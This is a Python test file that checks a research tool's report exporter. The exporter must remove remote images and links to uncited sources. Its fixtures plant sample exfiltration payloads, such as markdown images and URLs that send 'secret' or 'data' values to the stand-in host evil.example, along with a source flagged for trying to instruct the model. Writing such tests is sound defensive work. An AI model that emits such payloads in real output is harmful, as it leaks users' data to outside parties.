"""Reports never embed remote images and link only to cited sources, whatever a model or a
page wrote into them."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from deepresearch.export.report_render import to_html, to_markdown
from deepresearch.export.report_text import IMAGE_REMOVED, LINK_REMOVED, neutralize
from deepresearch.models import (
    Evidence,
    Paragraph,
    Report,
    Section,
    Sentence,
    SourceRef,
    Verification,
)
from deepresearch.models.scores import SourceScores

EVIL = "http://evil.example"
SOURCE = "https://mill.example/history"


def report() -> Report:
    quote = f"The mill was built in 1764 (see {EVIL}/page)."
    evidence = Evidence(
        id="e1",
        sub_question_id="q1",
        claim="built in 1764",
        quote=quote,
        source_id="s1",
        source_url=SOURCE,
        start=0,
        end=len(quote),
        verification=Verification(status="PASS", method="exact", score=1.0, start=0, end=5),
    )
    answer = Sentence(
        text=f"The mill dates from 1764. ![x]({EVIL}/?q=secret) [click]({EVIL}) <{EVIL}/auto> "
        f'www.evil.example <img src="{EVIL}/i.png"> [r]: {EVIL}/ref See {SOURCE}.',
        citations=["e1"],
        audit="partial",
        audit_note=f"see ![n]({EVIL}/?note=1) and ]({EVIL})",
    )
    considered = [
        SourceScores(
            url=url, domain=domain, extractability=1.0, query_relevance=1.0, query_multiplier=1.0,
            domain_authority=50, recency=0.5, retrieval_relevance=0.5, tier="SECONDARY",
            credibility=0.5, signal_score=0.5, final=0.5, decision=decision, reason=reason,
        )
        for url, domain, decision, reason in [
            (SOURCE, "mill.example", "read", "read: rank 1"),
            (f"{EVIL}/hostile", "evil.example", "dropped", "dropped: tries to instruct the model (fetch)"),
        ]
    ]  # fmt: skip
    return Report(
        run_id="run-1",
        question="When was the mill built?",
        title=f"The mill ![t]({EVIL}/?data=title)",
        kind="synthesized",
        summary=[answer],
        sections=[Section(heading=f"[Head]({EVIL})", paragraphs=[Paragraph(sentences=[answer])])],
        sources=[SourceRef(id="s1", number=1, url=SOURCE, title=f"![i]({EVIL}/t.png) History", domain="mill.example")],
        evidence=[evidence],
        limitations=[f"Read {EVIL}/more for details."],
        suggestions=[f"![s]({EVIL}/s.png)"],
        considered=considered,
    )  # fmt: skip


class Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.hrefs: list[str] = []
        self.images: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "a" and values.get("href"):
            self.hrefs.append(values["href"] or "")
        if tag == "img":
            self.images.append(values.get("src") or "")


def test_markdown_has_no_remote_image_and_no_link_but_to_cited_sources() -> None:
    md = to_markdown(report())
    body, considered = md.split("## Sources considered", 1)
    assert EVIL not in body and "evil.example/" not in body
    assert "![" not in md and "<img" not in md and "<http" not in md
    assert IMAGE_REMOVED in md and "click" in md and LINK_REMOVED in md
    assert f"]({SOURCE})" in md  # the cited source stays a link
    assert f"See {SOURCE}." in md  # and may be named in the text
    assert f"]({EVIL}" not in considered


def test_markdown_lists_uncited_sources_as_code_not_links() -> None:
    md = to_markdown(report())
    rows = [line for line in md.splitlines() if "evil.example" in line]
    assert rows == [
        f"| evil.example `{EVIL}/hostile` | SECONDARY | 0.50 | – | 0.50 | dropped: tries to "
        "instruct the model (fetch) |"
    ]
    assert "| [mill.example](https://mill.example/history) |" in md


def test_html_has_no_remote_image_and_links_only_to_cited_sources() -> None:
    page = to_html(report())
    found = Links()
    found.feed(page)
    assert found.images == []
    external = [href for href in found.hrefs if not href.startswith("#")]
    assert set(external) == {SOURCE}
    assert "q=secret" not in page and "![" not in page


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"a ![x]({EVIL}/?q=secret) b", f"a {IMAGE_REMOVED} b"),
        ("a ![x][ref] b", f"a {IMAGE_REMOVED} b"),
        (f"[click]({EVIL}) here", "click here"),
        (f"[![img]({EVIL}/i.png)]({EVIL})", IMAGE_REMOVED),
        (f"<{EVIL}/x> now", f"{LINK_REMOVED} now"),
        (f"go to {EVIL}/x?data=1.", f"go to {LINK_REMOVED}."),
        ("visit www.evil.example today", f"visit {LINK_REMOVED} today"),
        (f"cited {SOURCE}, fine", f"cited {SOURCE}, fine"),
        ("plain text with [brackets] stays", "plain text with [brackets] stays"),
    ],
)
def test_neutralize(text: str, expected: str) -> None:
    assert neutralize(text, {SOURCE}) == expected
